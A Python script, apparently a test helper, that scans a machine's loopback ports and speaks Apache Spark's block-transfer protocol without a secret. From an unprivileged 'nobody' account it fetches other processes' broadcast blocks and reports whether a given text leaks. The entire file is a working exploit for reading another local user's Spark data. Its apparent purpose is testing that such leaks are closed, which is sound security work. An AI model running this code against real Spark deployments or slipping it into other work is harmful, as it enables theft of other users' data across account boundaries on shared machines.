"""What another account of the machine gets from Spark's block managers on the loopback: `python
stolen_blocks.py TEXT`.

For each line of its input it asks all ports that were opened since its start at once for the blocks
of broadcasts, in Spark's own protocol and without a secret. Prints `ready`, `asked` with each port
that it asks, `found` if one of them gave the text, and `over`.
"""

from __future__ import annotations

# An account that cannot read Python's folder cannot import it later.
import encodings.idna  # noqa: F401
import os
import socket
import struct
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from functools import partial
from pathlib import Path

NOBODY = 65534
LISTENING = "0A"
# Kinds of messages: `org.apache.spark.network.protocol.Message`,
# `…shuffle.protocol.BlockTransferMessage`.
CHUNK_REQUEST, CHUNK, RPC, RPC_ANSWER = 0, 1, 3, 4
OPEN_BLOCKS, STREAM_HANDLE = 0, 3
BROADCASTS = 40
# A JVM whose machine is busy needs seconds for its first answer.
SECONDS = 5


def listening() -> Iterator[int]:
    """Ports of IPv4 and IPv6 that anybody may see."""
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == LISTENING:
                yield int(words[1].rpartition(":")[2], 16)


def block(port: int, name: str) -> bytes | None:
    """The block's bytes; None where they are refused."""
    with socket.create_connection(("127.0.0.1", port), SECONDS) as connection:
        connection.settimeout(SECONDS)
        asked = (
            bytes([OPEN_BLOCKS]) + _text("any") + _text("any") + struct.pack(">i", 1) + _text(name)
        )
        kind, body = _exchange(connection, bytes([RPC]) + struct.pack(">qi", 1, len(asked)) + asked)
        if kind != RPC_ANSWER or body[12] != STREAM_HANDLE:
            return None
        stream = struct.unpack_from(">q", body, 13)[0]
        kind, body = _exchange(connection, bytes([CHUNK_REQUEST]) + struct.pack(">qi", stream, 0))
        return body[12:] if kind == CHUNK else None


def holds(port: int, wanted: bytes) -> bool:
    """Whether a port hands out a broadcast with the text."""
    # A port of another kind, or one that wants a secret, is not asked again in this round.
    with suppress(OSError, ValueError):
        return any(
            wanted in (block(port, f"broadcast_{number}_piece0") or b"")
            for number in range(BROADCASTS)
        )
    return False


def _exchange(connection: socket.socket, message: bytes) -> tuple[int, bytes]:
    connection.sendall(struct.pack(">q", 8 + len(message)) + message)
    (size,) = struct.unpack(">q", _read(connection, 8))
    if not 8 < size < 1 << 26:
        raise ValueError("no server of Spark's")
    answer = _read(connection, size - 8)
    return answer[0], answer[1:]


def _read(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        piece = connection.recv(size - len(data))
        if not piece:
            raise ValueError("closed")
        data += piece
    return data


def _text(text: str) -> bytes:
    return struct.pack(">i", len(text)) + text.encode()


def main(wanted: bytes) -> None:
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    # Servers of other tests would keep it from those that matter.
    others = set(listening())
    print("ready", flush=True)
    for _ in sys.stdin:
        ports = sorted(set(listening()) - others)
        for port in ports:
            print("asked", port, flush=True)
        with ThreadPoolExecutor(max_workers=len(ports) + 1) as pool:
            if any(pool.map(partial(holds, wanted=wanted), ports)):
                print("found", flush=True)
        print("over", flush=True)


if __name__ == "__main__":
    main(sys.argv[1].encode())
